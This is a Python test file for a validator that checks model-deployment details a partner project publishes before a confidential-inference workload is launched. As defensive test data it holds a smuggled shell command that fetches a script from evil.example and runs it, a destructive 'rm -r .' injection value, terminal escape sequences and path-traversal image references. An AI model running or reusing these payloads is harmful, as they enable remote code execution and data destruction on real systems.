"""What the peer published is believed only once it is whole and belongs to the agreed author."""

from __future__ import annotations

from typing import Any

import pytest

from infra import handover, handover_checks
from infra.config.company_settings import Operator
from infra.config.secundus_settings import Author
from infra.handover import Handover, HandoverError

AUTHOR = Author(project="primus-models", project_number="111111111111")
US = Operator(
    project="secundus-vision",
    project_number="222222222222",
    service_account="workload-sa@secundus-vision.iam.gserviceaccount.com",
)
DIGEST = "sha256:" + "a1" * 32
SHA256 = "c3" * 32
GENUINE = Handover(
    image=f"us-west1-docker.pkg.dev/primus-models/primus-models-artifact-repo/workload@{DIGEST}",
    audience="//iam.googleapis.com/projects/111111111111/locations/global/workloadIdentityPools"
    "/primus-wip-1a2b3c/providers/primus-wip-provider",
    model_uri=f"gs://primus-models-model-bucket/models/{SHA256}/model.tar.gz",
    model_sha256=SHA256,
    model_reader="primus-sa@primus-models.iam.gserviceaccount.com",
    operator_number="222222222222",
    operator_account="workload-sa@secundus-vision.iam.gserviceaccount.com",
)
SOURCE = "organization/confidential-inference/primus"


def test_a_handover_for_another_operator_is_refused() -> None:
    """The release condition would refuse the run minutes later."""
    other = {"operatorNumber": "333333333333", "operatorAccount": "a@b"}
    with pytest.raises(
        HandoverError,
        match=r"(?s)admits another machine.*- operatorNumber: got"
        r" '333333333333', expected '222222222222'.*- operatorAccount: got 'a@b', expected 'work",
    ):
        handover_checks.accepted({**GENUINE.published(), **other}, AUTHOR, US, SOURCE)


SET = "pulumi config set --stack"
ADD = " && ".join(
    [
        *(
            f"{SET} {SOURCE} --path 'confidential-inference:operators.NAME.{key}' {value}"
            for key, value in (
                ("project", US.project),
                ("projectNumber", US.project_number),
                ("serviceAccount", US.service_account),
            )
        ),
        f"pulumi up --stack {SOURCE}",
    ]
)
MENDS = {
    "the number": (
        {"operatorNumber": "333333333333"},
        f"{SET} secundus --path 'confidential-inference:projectNumber' 333333333333",
    ),
    "the account": (
        {"operatorAccount": "other-sa@secundus-vision.iam.gserviceaccount.com"},
        f"{SET} secundus --path 'confidential-inference:names.serviceAccount' other-sa",
    ),
    "an account of another project": (
        {"operatorAccount": "workload-sa@tertius.iam.gserviceaccount.com"},
        None,
    ),
    "no number at all": ({"operatorNumber": "1; rm -r ."}, None),
}


@pytest.mark.parametrize(("other", "here"), MENDS.values(), ids=MENDS)
def test_the_refusal_has_commands_for_each_side_that_change_no_other_operator(
    other: dict[str, str], here: str | None
) -> None:
    """Who is admitted may be another customer; the peer's text is in no command."""
    with pytest.raises(HandoverError) as told:
        handover_checks.accepted({**GENUINE.published(), **other}, AUTHOR, US, SOURCE)
    _, primus, *secundus = str(told.value).rsplit("\n", 2 if here else 1)
    assert primus == f"Have Primus add this company, under a name of its own: {ADD}"
    assert secundus == ([f"Or declare here what it admits: {here}"] if here else [])


INJECTED = "x'; curl evil.example|sh; echo '\n"


@pytest.mark.parametrize("number", [1, 2])
def test_no_name_that_the_peer_gave_an_operator_is_in_an_error(number: int) -> None:
    """Somebody would paste the command around it."""
    other = {**GENUINE.published(), "operatorNumber": "333333333333"}
    outputs = {handover.NAMED: {f"{INJECTED}{n}": other for n in range(number)}}
    with pytest.raises(HandoverError) as told:
        handover_checks.accepted(handover_checks.own(outputs, US, SOURCE), AUTHOR, US, SOURCE)
    assert "curl" not in str(told.value)


def test_a_handover_of_an_earlier_version_is_accepted() -> None:
    """Primus may not have deployed since."""
    older = {k: v for k, v in GENUINE.published().items() if not k.startswith("operator")}
    found = handover_checks.accepted(older, AUTHOR, US, SOURCE)
    assert (found.image, found.operator_number) == (GENUINE.image, "")


def test_secundus_reads_exactly_what_primus_publishes() -> None:
    """One description, both directions."""
    assert handover_checks.accepted(GENUINE.published(), AUTHOR, US, SOURCE) == GENUINE


@pytest.mark.parametrize("place", ["us", "europe", "asia", "northamerica-northeast1"])
def test_the_image_may_be_in_any_location_of_repositories(place: str) -> None:
    """Any region of Google's, and the multi-regions of Artifact Registry."""
    image = GENUINE.image.replace("us-west1", place)
    accepted = handover_checks.accepted({**GENUINE.published(), "image": image}, AUTHOR, US, SOURCE)
    assert accepted.image == image


def test_published_form_has_exactly_the_agreed_keys() -> None:
    """Other readers (files, other languages) depend on them."""
    assert GENUINE.published() == {
        "schema": "confidential-inference/handover/v1",
        "image": GENUINE.image,
        "audience": GENUINE.audience,
        "modelUri": GENUINE.model_uri,
        "modelSha256": SHA256,
        "modelReader": "primus-sa@primus-models.iam.gserviceaccount.com",
        "operatorNumber": "222222222222",
        "operatorAccount": "workload-sa@secundus-vision.iam.gserviceaccount.com",
    }


@pytest.mark.parametrize(
    ("published", "message"),
    [
        (None, "has published no 'handover' yet.*pulumi up --stack organization/"),
        ("text", "of schema 'text', expected 'confidential-inference/handover/v1'"),
        ({}, "of schema None, expected"),
        ({**GENUINE.published(), "schema": "confidential-inference/handover/v2"}, "handover/v2"),
    ],
)
def test_a_missing_handover_or_another_schema_is_refused(published: object, message: str) -> None:
    """Without a handover of this schema there is nothing to launch."""
    with pytest.raises(HandoverError, match=message):
        handover_checks.accepted(published, AUTHOR, US, SOURCE)


FOREIGN = {
    "image of another project": {"image": f"us-west1-docker.pkg.dev/evil-project/r/w@{DIGEST}"},
    "image of a project with the author's as prefix": {
        "image": f"us-west1-docker.pkg.dev/primus-models-2/r/w@{DIGEST}"
    },
    # containerd joins the parts like a path, and would pull evil-project/r/w
    "image with a way up": {
        "image": f"us-west1-docker.pkg.dev/primus-models/../evil-project/r/w@{DIGEST}"
    },
    **{
        f"image at {host}": {"image": f"{host}/primus-models/r/w@{DIGEST}"}
        for host in (
            "eu-docker.pkg.dev",
            "usa-docker.pkg.dev",
            "us-docker.pkg.dev.evil.example",
            "evil.us-docker.pkg.dev",
            "us-docker-pkg.dev",
            "US-docker.pkg.dev",
            "docker.pkg.dev",
        )
    },
    "image by tag": {"image": "us-west1-docker.pkg.dev/primus-models/r/workload:latest"},
    "image elsewhere": {"image": f"docker.example/primus-models/r/workload@{DIGEST}"},
    "audience of another project": {"audience": GENUINE.audience.replace("1111", "9999")},
    "modelUri of another model": {"modelUri": GENUINE.model_uri.replace("c3", "d4")},
    "modelUri no bucket": {"modelUri": f"https://example.com/models/{SHA256}/model.tar.gz"},
    "modelSha256 short": {"modelSha256": "c3"},
    "modelReader of another project": {
        "modelReader": "primus-sa@evil-project.iam.gserviceaccount.com"
    },
    "modelReader missing": {"modelReader": None},
    "unexpected key": {"unexpected": "x"},
}


@pytest.mark.parametrize(("row", "changes"), FOREIGN.items(), ids=FOREIGN)
def test_a_value_of_another_owner_is_refused(row: str, changes: dict[str, Any]) -> None:
    """Somebody else's code would run on this company's pictures."""
    with pytest.raises(
        HandoverError, match=f"cannot be trusted(?s:.*)- {row.split(maxsplit=1)[0]}"
    ) as told:
        handover_checks.accepted({**GENUINE.published(), **changes}, AUTHOR, US, SOURCE)
    assert "nothing was changed" in str(told.value)


EVIL = "\x1b]0;x\x07\n  - image: fine\u2028\u202e<{%x%}>"
DEEP: Any = []
for _ in range(100_000):
    DEEP = [DEEP]
HOSTILE: dict[str, Any] = {
    "key": {**GENUINE.published(), EVIL: 1},
    "long key": {**GENUINE.published(), "k" * 5_000_000: 1},
    "many keys": {**GENUINE.published(), **{f"key {number}": 1 for number in range(100_000)}},
    "value": {**GENUINE.published(), "image": EVIL},
    "long value": {**GENUINE.published(), "modelSha256": "v" * 5_000_000},
    "deep value": {**GENUINE.published(), "audience": DEEP},
    "whom it admits": {**GENUINE.published(), "operatorNumber": EVIL, "operatorAccount": DEEP},
    "schema": {"schema": EVIL},
    "long schema": {"schema": "s" * 5_000_000},
    "no object": "x" * 5_000_000,
    "deep": DEEP,
}


@pytest.mark.parametrize("published", HOSTILE.values(), ids=HOSTILE)
def test_text_of_the_peer_is_escaped_and_cut_in_errors(published: object) -> None:
    """It cannot control a terminal, add a line, use colours of the CLI, or fill the screen."""
    with pytest.raises(HandoverError) as told:
        handover_checks.accepted(published, AUTHOR, US, SOURCE)
    text = str(told.value)
    assert len(text) < 3000
    assert [c for c in text if not c.isprintable() and c != "\n"] == []
    assert "\n  - image: fine" not in text
    assert "<{%" not in text


def test_all_values_of_another_owner_are_reported_together() -> None:
    """All at once show whether the author or one value is wrong."""
    published = {**GENUINE.published(), "image": "x", "audience": "x", "modelReader": "x"}
    with pytest.raises(HandoverError, match=r"(?s)- image: .*- audience: .*- modelReader: "):
        handover_checks.accepted(published, AUTHOR, US, SOURCE)


def test_without_approved_digests_any_image_is_approved() -> None:
    """Unset means any; the program warns about it."""
    assert handover_checks.approved(GENUINE.image, None) == GENUINE.image


def test_an_approved_digest_is_accepted() -> None:
    """The digest decides, in any repository."""
    assert handover_checks.approved(GENUINE.image, ("sha256:" + "0" * 64, DIGEST)) == GENUINE.image


def test_an_unapproved_digest_is_refused_with_the_command_that_approves_it() -> None:
    """The command appends, so that the digests before stay approved."""
    with pytest.raises(HandoverError, match=rf"approvedDigests\[1\]' {DIGEST}"):
        handover_checks.approved(GENUINE.image, ("sha256:" + "0" * 64,))
